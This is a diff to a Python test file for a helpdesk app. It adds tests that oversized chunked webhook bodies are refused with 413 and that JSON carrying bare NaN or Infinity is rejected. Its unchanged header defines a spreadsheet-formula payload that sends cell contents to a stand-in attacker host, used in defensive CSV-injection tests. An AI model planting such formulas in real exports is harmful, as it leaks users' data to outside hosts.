@@ -6,16 +6,21 @@ or carry NaN."""
 from __future__ import annotations
 
 import csv
+import http.client
 import io
+import json
+from urllib.parse import urlsplit
 
 import pytest
 from sqlalchemy import update
 
 from helpdesk.accounts.models import Agent, Role
 from helpdesk.extensions import db
+from tests.conftest import serving, table_counts
 from tests.test_api import Client, token_for
 from tests.test_auth import World, signed_in
 from tests.test_metrics import FIRST, LAST, History
+from tests.test_webhooks import ACCOUNT, sign, text_delivery
 
 RANGE = {"from": FIRST.isoformat(), "to": LAST.isoformat()}
 FORMULA = '=HYPERLINK("http://evil.example/?a="&A1,"x")'
@@ -120,3 +125,87 @@ def test_dates_inside_the_supported_range_still_work(client, desk):
     assert api.get("/metrics/summary", query_string=args).status_code == 200
     first_days = api.get("/metrics/summary", query_string={"to": "2000-01-05"})
     assert first_days.status_code == 200 and first_days.get_json()["from"] == "2000-01-01"
+
+
+# Webhook bodies ---------------------------------------------------------------------------------
+
+MIB = 1024 * 1024
+
+
+def post_chunked(base_url: str, raw: bytes, signature: str, chunk: int = 64 * 1024):
+    """POST the body with Transfer-Encoding: chunked and no Content-Length, as a real client
+    streaming it does: (status, JSON body)."""
+    parts = urlsplit(base_url)
+    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30)
+    try:
+        connection.request(
+            "POST",
+            "/webhooks/instagram",
+            body=(raw[i : i + chunk] for i in range(0, len(raw), chunk)),
+            headers={"Content-Type": "application/json", "X-Hub-Signature-256": signature},
+            encode_chunked=True,
+        )
+        response = connection.getresponse()
+        return response.status, response.read()
+    finally:
+        connection.close()
+
+
+def counts() -> dict[str, int]:
+    """Rows per table, read in a transaction that ends at once so the served app can write."""
+    try:
+        return table_counts()
+    finally:
+        db.session.rollback()
+
+
+def padded_delivery(size: int) -> bytes:
+    """A valid delivery made `size` bytes long with trailing spaces (still JSON)."""
+    raw = text_delivery(1, "mid-padded-")
+    return raw + b" " * (size - len(raw))
+
+
+def test_a_chunked_body_over_one_mib_is_413_and_stores_nothing(app):
+    raw = padded_delivery(MIB + 10)
+    before = counts()
+    with serving(app) as base_url:
+        status, body = post_chunked(base_url, raw, sign(raw))
+    assert status == 413, body[:300]
+    assert json.loads(body)["error"]["code"] == "too_large"
+    assert counts() == before
+
+
+def test_a_chunked_body_over_one_mib_is_413_even_unsigned(app):
+    """The size is refused before the signature is checked, whatever the signature says."""
+    raw = padded_delivery(2 * MIB)
+    with serving(app) as base_url:
+        status, _body = post_chunked(base_url, raw, "sha256=" + "0" * 64)
+    assert status == 413
+
+
+def test_a_chunked_body_within_the_limit_is_stored(app):
+    raw = padded_delivery(MIB - 1)
+    before = counts()
+    with serving(app) as base_url:
+        status, body = post_chunked(base_url, raw, sign(raw))
+    assert status == 200, body[:300]
+    assert counts()["webhook_events"] == before["webhook_events"] + 1
+
+
+@pytest.mark.parametrize("constant", ["NaN", "Infinity", "-Infinity"])
+def test_a_signed_body_with_a_bare_nan_or_infinity_is_400_and_stores_nothing(client, constant):
+    raw = (
+        '{"object":"instagram","entry":[{"id":"ACCOUNT","time":CONSTANT,"messaging":[]}]}'
+        .replace("ACCOUNT", ACCOUNT)
+        .replace("CONSTANT", constant)
+        .encode()
+    )
+    before = counts()
+    response = client.post(
+        "/webhooks/instagram",
+        data=raw,
+        headers={"Content-Type": "application/json", "X-Hub-Signature-256": sign(raw)},
+    )
+    assert response.status_code == 400, response.get_data(as_text=True)
+    assert response.get_json()["error"]["code"] == "bad_json"
+    assert counts() == before
